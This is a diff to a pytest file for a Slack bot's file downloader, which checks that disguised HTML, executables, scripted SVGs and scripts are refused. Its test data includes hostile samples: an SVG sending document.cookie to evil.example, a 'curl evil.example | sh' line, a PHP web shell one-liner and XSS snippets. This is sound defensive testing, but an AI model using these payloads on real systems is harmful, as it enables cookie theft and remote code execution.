@@ -3,7 +3,9 @@ and never mistaken for Slack's login page."""
 
 from __future__ import annotations
 
+import io
 import os
+import zipfile
 
 import httpx
 import pytest
@@ -19,8 +21,28 @@ from dsbot.slack.interaction.files import (
     SlackLoginPage,
 )
 from dsbot.slack.interaction.hosts import slack_url as slack_file_url
+from dsbot.texts import get_texts
 
 PDF = b"%PDF-1.4\n" + os.urandom(50_000) + b"\n%%EOF\n"
+# A whole one-page PDF and a 1×1 PNG, as a scanner and a screenshot would give them.
+REAL_PDF = (
+    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
+    b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
+    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>endobj\n"
+    b"xref\n0 4\n0000000000 65535 f \ntrailer<</Size 4/Root 1 0 R>>\nstartxref\n0\n%%EOF\n"
+)
+REAL_PNG = bytes.fromhex(
+    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
+    "0000000d49444154789c63f8cfc0f01f0005000201e1f2b1850000000049454e44ae426082"
+)
+
+
+def docx() -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr("word/document.xml", "<w:document><w:body/></w:document>")
+    return out.getvalue()
 
 
 def ref(file: dict) -> SlackFileRef:
@@ -182,24 +204,77 @@ def test_empty_file_is_refused(fake_slack, slack_client) -> None:
     assert caught.value.key == "file.empty"
 
 
-@pytest.mark.parametrize(
-    ("content", "mimetype"),
-    [
-        (b"<!DOCTYPE html><html><body>Connexion</body></html>", "application/pdf"),
-        (b"\n  <html><head></head></html>", "image/png"),
-        (b"MZ\x90\x00" + os.urandom(100), "application/pdf"),
-        (b"%PDF-1.4 ...", "image/jpeg"),
-        (b"<html>not a sheet</html>", "text/csv"),
-    ],
-    ids=["html-as-pdf", "html-as-png", "exe-as-pdf", "pdf-as-jpeg", "html-as-csv"],
+SCRIPTED_SVG = (
+    b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
+    b'width="10" height="10"><script>fetch("https://evil.example/?c="+document.cookie)'
+    b"</script><rect width='10' height='10'/></svg>"
 )
-def test_content_that_is_not_the_announced_type_is_refused(
-    fake_slack, slack_client, content, mimetype
+ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 4
+
+
+@pytest.mark.parametrize(
+    ("content", "mimetype", "name", "key"),
+    [
+        (b"<!DOCTYPE html><html><body>Connexion</body></html>", "application/pdf", "a.pdf", "html"),
+        (b"\n  <html><head></head></html>", "image/png", "a.png", "html"),
+        (b"MZ\x90\x00\x03" + bytes(range(256)), "application/pdf", "decision.pdf", "executable"),
+        (ELF, "application/pdf", "decision.pdf", "executable"),
+        (ELF, "application/octet-stream", "notes", "executable"),
+        (b"%PDF-1.4 ...", "image/jpeg", "photo.jpg", "mismatch"),
+        (b"<html>not a sheet</html>", "text/csv", "a.csv", "html"),
+        # A fragment, no doctype nor <html>: what a browser would still run.
+        (b"Bonjour,\nvoici la piece <a href='https://x.example'>ici</a>.", "text/plain", "a.txt",
+         "html"),
+        (b"Merci.\n<script>alert(document.domain)</script>\n", "text/plain", "a.txt", "html"),
+        (b"<iframe src=//evil.example></iframe>", "application/octet-stream", "x", "html"),
+        ("Voir <div onclick=x()>ici</div>".encode("utf-16"), "text/plain", "a.txt", "html"),
+        (SCRIPTED_SVG, "application/octet-stream", "logo", "svg"),
+        (SCRIPTED_SVG, "image/png", "logo.png", "svg"),
+        (b"#!/bin/sh\ncurl evil.example | sh\n", "text/plain", "lisez-moi.txt", "script"),
+        (b"<?php system($_GET['c']); ?>", "text/plain", "a.txt", "script"),
+        (b"\x1f\x8b\x08\x00" + bytes(64), "application/x-msdownload", "a.exe", "not_accepted"),
+    ],
+    ids=[
+        "html-as-pdf",
+        "html-as-png",
+        "pe-renamed-pdf",
+        "elf-renamed-pdf",
+        "elf-as-octet-stream",
+        "pdf-as-jpeg",
+        "html-as-csv",
+        "html-fragment-link-as-text",
+        "html-fragment-script-as-text",
+        "iframe-as-octet-stream",
+        "html-in-utf16",
+        "scripted-svg-as-octet-stream",
+        "svg-as-png",
+        "shell-script-as-text",
+        "php-as-text",
+        "type-outside-ds-list",
+    ],
+)  # fmt: skip
+def test_content_is_judged_by_its_bytes_and_refused(
+    fake_slack, slack_client, content, mimetype, name, key
 ) -> None:
-    file = fake_slack.add_file(content, "piece", mimetype)
+    file = fake_slack.add_file(content, name, mimetype)
     with pytest.raises(SlackFileRefused) as caught:
         SlackFileFetcher(slack_client).download(ref(file))
-    assert caught.value.key == "file.content_mismatch"
+    assert caught.value.key == f"file.refused_{key}"
+    text = get_texts("fr")(caught.value.key, **caught.value.params)
+    assert name in text and "DS" in text  # a clear French sentence naming the file
+
+
+def test_a_file_of_another_workspace_is_refused_before_download(fake_slack, slack_client) -> None:
+    file = fake_slack.add_file(PDF, "scan.pdf", "application/pdf")
+    fake_slack.update_file(file["id"], user_team="T0OTHERORG")
+    with pytest.raises(SlackFileRefused) as caught:
+        SlackFileFetcher(slack_client, team_id="T0TEST").download(ref(file))
+    assert caught.value.key == "file.foreign_team"
+    assert "autre espace de travail" in get_texts("fr")(caught.value.key, **caught.value.params)
+    assert fake_slack.downloads() == []
+    # The same file, in its own workspace, is fetched.
+    fake_slack.update_file(file["id"], user_team="T0TEST")
+    assert SlackFileFetcher(slack_client, team_id="T0TEST").download(ref(file)) == PDF
 
 
 @pytest.mark.parametrize(
@@ -209,9 +284,16 @@ def test_content_that_is_not_the_announced_type_is_refused(
         (b"PK\x03\x04" + b"\x00" * 20, "application/msword"),
         (b"nom;prenom\n", "text/csv"),
         (b"RIFF\x00\x00\x00\x00WEBPVP8 ", "image/webp"),
+        (REAL_PDF, "application/pdf"),
+        (REAL_PNG, "image/png"),
+        (REAL_PNG, "application/octet-stream"),
+        (docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
+        (b"Marie <marie@exemple.fr> : 3 < 5 et 7 > 2\n", "text/plain"),
+        (b"%PDF-1.4\n" + bytes(range(256)) * 64 + b"\n%%EOF\n", "application/pdf"),
     ],
-    ids=["png", "docx-as-doc", "csv", "webp"],
-)
+    ids=["png", "docx-as-doc", "csv", "webp", "pdf", "real-png", "png-as-octet-stream",
+         "docx", "text-with-angle-brackets", "pdf-with-every-byte"],
+)  # fmt: skip
 def test_content_of_the_announced_type_is_accepted(fake_slack, slack_client, content, mimetype):
     file = fake_slack.add_file(content, "piece", mimetype)
     assert SlackFileFetcher(slack_client).download(ref(file)) == content
